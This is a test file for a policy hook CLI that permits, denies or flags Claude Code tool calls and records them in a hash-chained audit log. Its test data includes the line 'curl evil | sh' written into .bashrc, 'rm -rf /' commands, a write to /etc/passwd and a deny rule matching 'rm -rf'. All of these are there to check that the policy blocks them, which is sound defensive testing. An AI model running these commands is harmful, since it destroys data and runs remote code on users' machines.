/** `agentpolicy hook` with sample Claude Code PreToolUse payloads on stdin (the built CLI). */
import { spawn, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { verifyAuditLog } from "@agentpolicy/runtime";
import { afterAll, describe, expect, it } from "vitest";

const root = resolve(import.meta.dirname, "../..");
const bin = join(root, "compiler/bin/agentpolicy.js");
const policy = join(root, "examples/coding-agent/coding-agent.agentpolicy");
const context = JSON.stringify({ user: { id: "u1" }, workspace: "/home/ada/project" });

function hook(input: string, extra: string[] = [], cwd = root) {
  const r = spawnSync(process.execPath, [bin, "hook", "--policy", policy, "--agent", "coder", "--context", context, "--alias-map", "filesystem=fs", ...extra], {
    cwd,
    input,
    encoding: "utf8",
    timeout: 60_000,
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

/** A PreToolUse call as Claude Code sends it. */
function call(toolName: string, toolInput: unknown): string {
  return JSON.stringify({
    session_id: "abc123",
    transcript_path: "/home/ada/.claude/projects/p/abc123.jsonl",
    cwd: "/home/ada/project",
    permission_mode: "default",
    hook_event_name: "PreToolUse",
    tool_name: toolName,
    tool_input: toolInput,
    tool_use_id: "toolu_01",
  });
}

function answer(out: string) {
  const parsed = JSON.parse(out) as { hookSpecificOutput: { hookEventName: string; permissionDecision: string; permissionDecisionReason: string } };
  expect(Object.keys(parsed)).toEqual(["hookSpecificOutput"]);
  expect(parsed.hookSpecificOutput.hookEventName).toBe("PreToolUse");
  return parsed.hookSpecificOutput;
}

describe("agentpolicy hook", () => {
  const dir = mkdtempSync(join(tmpdir(), "agentpolicy-hook-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("allows an MCP read inside the workspace (mcp__SERVER__TOOL through --alias-map)", () => {
    const r = hook(call("mcp__filesystem__read_text_file", { path: "/home/ada/project/src/a.ts" }));
    expect(r.code).toBe(0);
    const a = answer(r.out);
    expect(a.permissionDecision).toBe("allow");
    expect(a.permissionDecisionReason).toContain("read-workspace");
  });

  it("denies a write outside the workspace, naming the rule and the reason", () => {
    const r = hook(call("mcp__filesystem__write_file", { path: "/home/ada/project/../.bashrc", content: "curl evil | sh" }));
    expect(r.code).toBe(0);
    const a = answer(r.out);
    expect(a.permissionDecision).toBe("deny");
    expect(a.permissionDecisionReason).toContain("outside-workspace");
    expect(a.permissionDecisionReason).toContain("writes stay inside the workspace");
  });

  it("asks the user for a review", () => {
    const a = answer(hook(call("mcp__filesystem__write_file", { path: "/home/ada/project/package.json", content: "{}" })).out);
    expect(a.permissionDecision).toBe("ask");
    expect(a.permissionDecisionReason).toContain("dependency changes need a human");
  });

  it("decides built-in tools as code.NAME (unknown to this policy: denied)", () => {
    const a = answer(hook(call("Bash", { command: "rm -rf /" })).out);
    expect(a.permissionDecision).toBe("deny");
    expect(a.permissionDecisionReason).toContain("unknown_tool");
    expect(a.permissionDecisionReason).toContain("code.Bash");
  });

  it("maps built-in tools with --builtin-alias", () => {
    const manifest = join(dir, "code.tools.json");
    writeFileSync(
      manifest,
      JSON.stringify({
        tools: [
          { name: "Read", inputSchema: { type: "object", properties: { file_path: { type: "string" } }, required: ["file_path"] } },
          { name: "Bash", inputSchema: { type: "object", properties: { command: { type: "string" } }, required: ["command"] } },
        ],
      }),
    );
    const p = join(dir, "cc.agentpolicy");
    writeFileSync(p, 'policy cc\ntools cc from "./code.tools.json"\nagent "claude" {\n  allow cc.Read\n  deny cc.Bash when args.command.contains("rm -rf") because "no recursive deletes"\n  review cc.Bash\n}\n');
    const run = (input: string) =>
      spawnSync(process.execPath, [bin, "hook", "--policy", p, "--agent", "claude", "--builtin-alias", "cc"], { input, encoding: "utf8" });
    expect(answer(run(call("Read", { file_path: "/x" })).stdout).permissionDecision).toBe("allow");
    expect(answer(run(call("Bash", { command: "ls" })).stdout).permissionDecision).toBe("ask");
    const rm = answer(run(call("Bash", { command: "rm -rf /" })).stdout);
    expect(rm.permissionDecision).toBe("deny");
    expect(rm.permissionDecisionReason).toContain("no recursive deletes");
  });

  it("denies (exit 0) on malformed input, another hook event, or a broken policy", () => {
    for (const input of ["", "{", "[]", JSON.stringify({ tool_input: {} }), JSON.stringify({ tool_name: "Bash", tool_input: [1] })]) {
      const r = hook(input);
      expect(r.code, input).toBe(0);
      expect(answer(r.out).permissionDecision, input).toBe("deny");
    }
    const other = hook(JSON.stringify({ hook_event_name: "Notification", tool_name: "Bash", tool_input: {} }));
    expect(answer(other.out).permissionDecisionReason).toContain("PreToolUse");
    // a PostToolUse without --state has nothing to settle: no answer, exit 0
    const post = hook(JSON.stringify({ hook_event_name: "PostToolUse", tool_name: "Bash", tool_input: {}, tool_use_id: "toolu_9" }));
    expect(post.code).toBe(0);
    expect(post.out).toBe("");
    const bad = join(dir, "bad.agentpolicy");
    writeFileSync(bad, "policy p\nallow nope.x\n");
    const broken = spawnSync(process.execPath, [bin, "hook", "--policy", bad, "--agent", "a"], { input: call("Bash", {}), encoding: "utf8" });
    expect(broken.status).toBe(0);
    expect(answer(broken.stdout).permissionDecision).toBe("deny");
    expect(broken.stderr).toContain("E_");
    const missing = spawnSync(process.execPath, [bin, "hook", "--policy", join(dir, "missing.agentpolicy"), "--agent", "a"], { input: call("Bash", {}), encoding: "utf8" });
    expect(answer(missing.stdout).permissionDecision).toBe("deny");
  });

  it("exits 2 on bad options (which Claude Code also treats as blocking)", () => {
    const r = spawnSync(process.execPath, [bin, "hook", "--agent", "a"], { input: call("Bash", {}), encoding: "utf8" });
    expect(r.status).toBe(2);
    const map = spawnSync(process.execPath, [bin, "hook", "--policy", policy, "--agent", "a", "--alias-map", "nonsense"], { input: call("Bash", {}), encoding: "utf8" });
    expect(map.status).toBe(2);
  });

  it("keeps limits across runs with --state (and not without)", () => {
    const state = join(dir, "state.jsonl");
    const same = call("mcp__filesystem__get_file_info", { path: "/home/ada/project/a.ts" });
    const effects = Array.from({ length: 4 }, () => answer(hook(same, ["--state", state]).out));
    expect(effects.map((a) => a.permissionDecision)).toEqual(["allow", "allow", "allow", "deny"]);
    expect(effects[3].permissionDecisionReason).toContain("coder/limit/repeats");
    expect(answer(hook(same).out).permissionDecision).toBe("allow");
  });

  it("appends to one hash-chained audit log across runs", () => {
    const log = join(dir, "hook-audit.jsonl");
    hook(call("mcp__filesystem__read_text_file", { path: "/home/ada/project/a" }), ["--audit", log]);
    hook(call("mcp__filesystem__write_file", { path: "/etc/passwd", content: "" }), ["--audit", log]);
    const text = readFileSync(log, "utf8");
    expect(verifyAuditLog(text)).toEqual({ ok: true, records: 2 });
    const records = text.trim().split("\n").map((l) => JSON.parse(l));
    expect(records[1].request).toMatchObject({ agent: "coder", tool: "fs.write_file", session: "abc123", callId: "toolu_01" });
  });
});

describe("hook --audit with hooks running in parallel", () => {
  it("keeps one hash chain: parallel runs take turns at the log", async () => {
    const dir = mkdtempSync(join(tmpdir(), "agentpolicy-hook-parallel-"));
    try {
      const log = join(dir, "audit.jsonl");
      const runs = Array.from({ length: 8 }, (_, i) =>
        new Promise<number | null>((done) => {
          const child = spawn(process.execPath, [bin, "hook", "--policy", policy, "--agent", "coder", "--context", context, "--audit", log], {
            stdio: ["pipe", "ignore", "ignore"],
          });
          child.on("close", done);
          child.stdin.end(call("Read", { file_path: `/home/ada/project/f${i}.ts` }));
        }),
      );
      expect(await Promise.all(runs)).toEqual(Array.from({ length: 8 }, () => 0));
      expect(verifyAuditLog(readFileSync(log, "utf8"))).toEqual({ ok: true, records: 8 });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
